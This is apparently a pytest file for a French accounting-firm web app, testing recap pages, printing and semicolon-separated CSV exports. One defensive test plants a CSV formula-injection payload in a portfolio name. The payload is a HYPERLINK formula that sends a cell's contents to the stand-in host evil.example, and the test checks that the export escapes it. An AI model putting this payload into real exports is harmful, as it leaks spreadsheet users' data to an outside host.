"""Le récapitulatif of the firm and of a portfolio: on screen, printed, exported as CSV."""
import csv
import html
import io

from db.clients import composition
from db.database import database
from db.models import Portfolio
from tests.factories.people import demo_user


def text(response):
    return html.unescape(response.get_data(as_text=True))


def test_firm_recap_shows_portfolios_companies_declarants_and_habilitations(admin_client):
    page = text(admin_client.get("/gestion/recapitulatif"))
    assert "Récapitulatif du cabinet" in page and "AG CONSEIL (cabinet de démonstration)" in page
    assert "Portefeuille «\u202fPortefeuille par défaut\u202f»" in page
    assert "Portefeuille «\u202fCLIENTS PME\u202f»" in page
    assert "DURAND Paul, LEROY Sophie, MOUTIN Claire" in page
    assert "DSN, DPAE, Mon Compte Formation / Élu" in page
    assert "DURAND Paul – DSN\u202f: Déclarer (1/1), Payer (1/1)" in page
    assert "552 032 534" in page and "Mono-établissement" in page
    assert '<button type="button" class="primary" data-print>Imprimer le récapitulatif</button>' in page
    assert page.index(">Retour</a>") < page.index(">Exporter en CSV (Excel)</a>") < page.index(
        ">Imprimer le récapitulatif</button>")  # the main action last
    assert 'href="/static/recap_print.css" media="print"' in page


def test_portfolio_recap_and_autoprint(admin_client):
    with database.connection_context():
        pid = Portfolio.get(Portfolio.name == "CLIENTS PME").id
    page = text(admin_client.get(f"/gestion/portefeuilles/{pid}/recapitulatif?imprimer=1"))
    assert "Récapitulatif du portefeuille «\u202fCLIENTS PME\u202f»" in page and "data-autoprint" in page
    assert "DANONE" not in page and "ESSOR ENERGIES" in page


def test_recap_summarises_big_companies(admin_client):
    with database.connection_context():
        pid = Portfolio.get(Portfolio.name == "CLIENTS PME").id
        composition.add_company(demo_user("MOUTIN"), pid, "356000000")
    page = text(admin_client.get(f"/gestion/portefeuilles/{pid}/recapitulatif"))
    assert "… et 1\u202f262 autres établissements (voir l’export CSV)." in page
    assert "35600000000048" not in page and "356 000 000 00048</span> (siège)" in page


def test_csv_export_is_semicolon_separated_utf8_with_bom(admin_client):
    response = admin_client.get("/gestion/recapitulatif.csv")
    assert response.mimetype == "text/csv"
    assert "attachment; filename=\"recapitulatif-cabinet-" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:5] == ["Portefeuille", "SIREN", "Raison sociale", "Type", "SIRET"]
    danone = [r for r in rows if r[1] == "552032534"]
    assert danone == [
        [
            "Portefeuille par défaut",
            "552032534",
            "DANONE",
            "Mono-établissement",
            "55203253400703",
            "Oui",
            "Actif",
            "59 RUE LA FAYETTE 75009 PARIS",
            "DURAND Paul",
            "DSN",
            "Oui",
            "Oui",
            danone[0][12],
            danone[0][13],
        ]
    ]
    assert " à " in danone[0][12]
    assert len(rows) == 1 + 6  # 6 establishments, one habilitation each (Paul, DSN)


def test_csv_exports_cannot_carry_a_formula_and_stay_out_of_caches(admin_client):
    with database.connection_context():
        Portfolio.update(name='=HYPERLINK("http://evil.example/?"&A2;"Voir")').where(
            Portfolio.name == "CLIENTS PME").execute()
        pid = Portfolio.get(Portfolio.name_key == "clients pme").id
    for path in ("/gestion/recapitulatif.csv", f"/gestion/portefeuilles/{pid}/recapitulatif.csv"):
        response = admin_client.get(path)
        assert response.headers["Cache-Control"] == "no-store"
        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
        cells = [row[0] for row in rows[1:]]
        assert '\'=HYPERLINK("http://evil.example/?"&A2;"Voir")' in cells
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    for path in ("/gestion/journal.csv", f"/gestion/habilitations/export?portfolio={pid}",
                 f"/gestion/habilitations/modele?portfolio={pid}", "/gestion/recapitulatif"):
        assert admin_client.get(path).headers["Cache-Control"] == "no-store", path
